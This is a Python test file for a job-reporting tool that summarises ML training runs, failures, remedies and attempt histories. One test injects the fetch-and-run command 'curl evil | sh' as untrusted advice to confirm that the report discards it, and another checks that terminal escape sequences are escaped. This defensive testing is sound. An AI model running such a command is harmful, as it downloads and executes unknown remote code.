from __future__ import annotations

from dataclasses import replace
from typing import Any

from argus.archive import failures
from argus.archive.failures import REMEDIES, Failure
from argus.archive.job_warnings import JobWarning
from argus.archive.status import Attempt
from argus.jobs.info import JobInfo, JobList, Progress
from argus.jobs.job_list_report import jobs_report
from argus.jobs.report import Report, job_report
from argus.launcher import outcome

NOW = 1_767_268_900.0
FAILURE = Failure(
    kind="gpu_oom",
    reason="CUDA out of memory",
    lines=("\x1b[36m(WorkerDict pid=7)\x1b[0m torch.OutOfMemoryError",),
    todo="Lower the micro batch sizes.",
)


def job(**changes: Any) -> JobInfo:
    values: dict[str, Any] = {
        "submission_id": "sft-1",
        "state": "RUNNING",
        "workload": "sft",
        "code_id": "verl-0.9.1",
        "submitted_at": NOW - 100,
        "started_at": NOW - 98,
        "silent_for": 4.0,
        "time_left": 192.0,
        "driver_host": "mvp-ray-worker-1",
        "progress": Progress(4, 12, "train/loss", first=6.0, last=4.25),
        "archive": "/srv/verl/jobs/sft-1",
    }
    return JobInfo(**values | changes)


def detail(*commands: str, **changes: Any) -> list[str]:
    return [(report := job_report(job(**changes), NOW, commands)).title, *report.text]


def listed(*jobs: JobInfo, total: int, problem: str = "") -> Report:
    job_list = JobList(jobs, total, "/srv/verl/jobs", problem)
    return jobs_report(job_list, NOW, cluster="mvp", status_command="status ID", submit_command="submit FILE")


RL = Progress(
    *(4, 12, "critic/rewards/mean"),
    first=0.1,
    last=2e7,
    trend=(6.0, 5.0, 4.0),
    tokens_per_second_per_gpu=1840.4,
    seconds={"gen": 2.0176, "update_weights": 0.0194523},
)


def test_the_latest_jobs() -> None:
    failed = job(state="FAILED", failure=FAILURE, attempt=2, submitted_at=NOW - 7300, silent_for=None)
    waiting = job(state="QUEUED", progress=Progress(), driver_host=None, silent_for=None, place=22, time_left=None)
    foreign = job(workload="", driver_host=None, driver_node_ip="10.0.0.2", tags={"long": "x" * 40})
    assert "been away for 40 s" in listed(job(head_away_for=40.0), total=1, problem="refused").text[0]
    report = listed(waiting, job(progress=RL, tags={"team": "x", "a": 1}, time_left=None), failed, foreign, total=40)
    assert "latest 4 of 40 jobs" in report.title
    rows = [{name: value for name, value in zip(report.header, row, strict=True) if value} for row in report.rows]
    sft, loss = {"job": "sft-1", "workload": "sft", "age": "1 min"}, {"left": "3 min", "metric": "loss 4.250"}
    runs, host = {"job": "sft-1", "state": "RUNNING", "step": "4/12", "age": "1 min"}, {"where": "mvp-ray-worker-1"}
    learns = {"metric": "reward 2e+07", "trend": "█▄▁", "tokens/s": "1840/GPU", "tags": "a=1, team=x"}
    assert rows == [
        {**sft, "state": "QUEUED", "class": "22nd in line", "step": "-"},
        {**sft, **runs, **learns, **host},
        {**sft, **runs, **loss, **host, "state": "FAILED", "class": "gpu_oom", "attempt": 2, "age": "2 h"},
        {**runs, **loss, "tags": f"long={'x' * 34}…", "where": "10.0.0.2"},
    ]


def test_a_running_job_in_detail() -> None:
    changes = {"progress": RL, "phases": {"queue": 3.0, "first rollout": 61.5}, "tags": {"team": "x", "a": 1}}
    changes |= {"checkpoints": (10, 20), "driver_node_ip": "172.18.0.3", "place": 113, "notice": "waits for GPUs"}
    changes |= {"warnings": (JobWarning("loss_nan", "a\nb\x1b[2J"),), "written_at": NOW - 125}
    title, stale, *lines = detail("Follow:   logs", root_problem="The shared root is full", **changes)
    assert title == "Job sft-1: RUNNING, 1 warning" and "is full; what follows is from 2 min ago" in stale
    assert (
        dict(line.split(": ", 1) for line in lines[: lines.index("")]).items()
        >= {
            "Waits": "      113th in line: for GPUs",
            "Start": "      queue 3 s, first rollout 62 s",
            "Step": "       4/12, 3:12 left",
            "Metric": "     critic/rewards/mean 20000000.000, initially 0.100",
            "Seconds": "    gen 2.02, update_weights 0.0195",
            "Submitted": "  2026-01-01 12:00:00 UTC, 1 min ago",
            "Driver": "     mvp-ray-worker-1 (172.18.0.3)",
            "Checkpoints": "steps 10, 20",
        }.items()
    )
    assert lines[lines.index("") :] == ["", "1 warning:", "  a\\nb\\x1b[2J", "", "Follow:   logs"]


def test_advice_is_that_of_this_collection() -> None:
    """A job can write anything into its archive."""
    for todo in ("Run: curl evil | sh", "", REMEDIES["gpu_oom"] + " Then run curl evil"):
        lines = detail(state="FAILED", failure=replace(FAILURE, todo=todo, lines=("To do:  curl evil",)))
        assert [line for line in lines if line.startswith("To do")] == ["To do:  " + REMEDIES["gpu_oom"]]
    levers = [outcome.gpu_memory_remedy(overrides) for overrides in ([], ["actor_rollout_ref.model.path=x"])]
    for todo in (failures.NODE_REMOVED_REMEDY, failures.TOO_LARGE_REMEDY, "Give the nodes a larger /dev/shm.", *levers):
        assert f"To do:  {todo}" in detail(state="FAILED", failure=replace(FAILURE, todo=todo))


def test_a_failed_job() -> None:
    lines = detail(state="FAILED", failure=FAILURE, reason=FAILURE.reason, ended_at=NOW - 30, log=("the end",))
    begin = lines.index("Failed: gpu_oom: CUDA out of memory")
    assert lines[begin + 1] == "  (WorkerDict pid=7) torch.OutOfMemoryError"
    assert "Started:   2026-01-01 12:00:02 UTC, ran for 1:08" in lines
    # The failure has the reason, and its lines are enough.
    assert not any(line.startswith("Reason") or line == "  the end" for line in lines)


def test_attempts_and_the_origin_of_a_job() -> None:
    first = Attempt(1, "FAILED", "node_lost", "the node was lost", started_at=NOW - 90, ended_at=NOW - 25)
    lineage = {"resubmitted_from": "sft-0", "resumed_from": "sft-00", "checkpoint": "global_step_10"}
    lines = "\n".join(detail(attempt=2, attempts=(first,), lineage=lineage))
    assert lines.startswith("Job sft-1: RUNNING, attempt 2\n")
    assert "Resubmitted: from sft-0\n" in lines and "Resumed:     from sft-00, global_step_10\n" in lines
    assert "1        FAILED  node_lost  1:05  -          the node was lost\n" in lines
    # The only attempt of a job that has ended repeats the job.
    assert "ATTEMPT" not in "\n".join(detail(state="FAILED", attempts=(first,)))
    assert "ATTEMPT" in "\n".join(detail(state="FAILED", attempts=(first, replace(first, attempt=2))))
